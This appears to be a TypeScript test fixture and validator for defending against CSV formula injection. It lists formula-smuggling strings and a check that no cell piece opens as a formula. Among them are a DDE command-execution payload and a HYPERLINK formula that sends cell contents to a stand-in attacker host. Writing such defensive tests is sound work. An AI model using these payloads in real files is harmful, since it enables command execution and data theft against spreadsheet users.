/**
 * Ways to smuggle a formula into a cell: https://owasp.org/www-community/attacks/CSV_Injection, and what importers strip or
 * split before they look at it.
 */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  '\u000b\u000c=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '"=1+1"',
  '﹦1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'text;=1+1;more',
  'text","=1+1',
];

const FORMULA = /^[=+\-@＝＋－＠﹦﹢﹣﹫]/;

/**
 * The rule: however a cell is cut (comma, semicolon, bar, tab, line), and when control characters, blanks and quotes in front
 * are dropped, nothing begins like a formula.
 */
export function opensAsText(cell: string): boolean {
  return cell.split(/[,;|\t\r\n]/).every((piece) => !FORMULA.test(piece.replace(/^[\p{Cc}\p{Cf}\s"]+/u, '')));
}
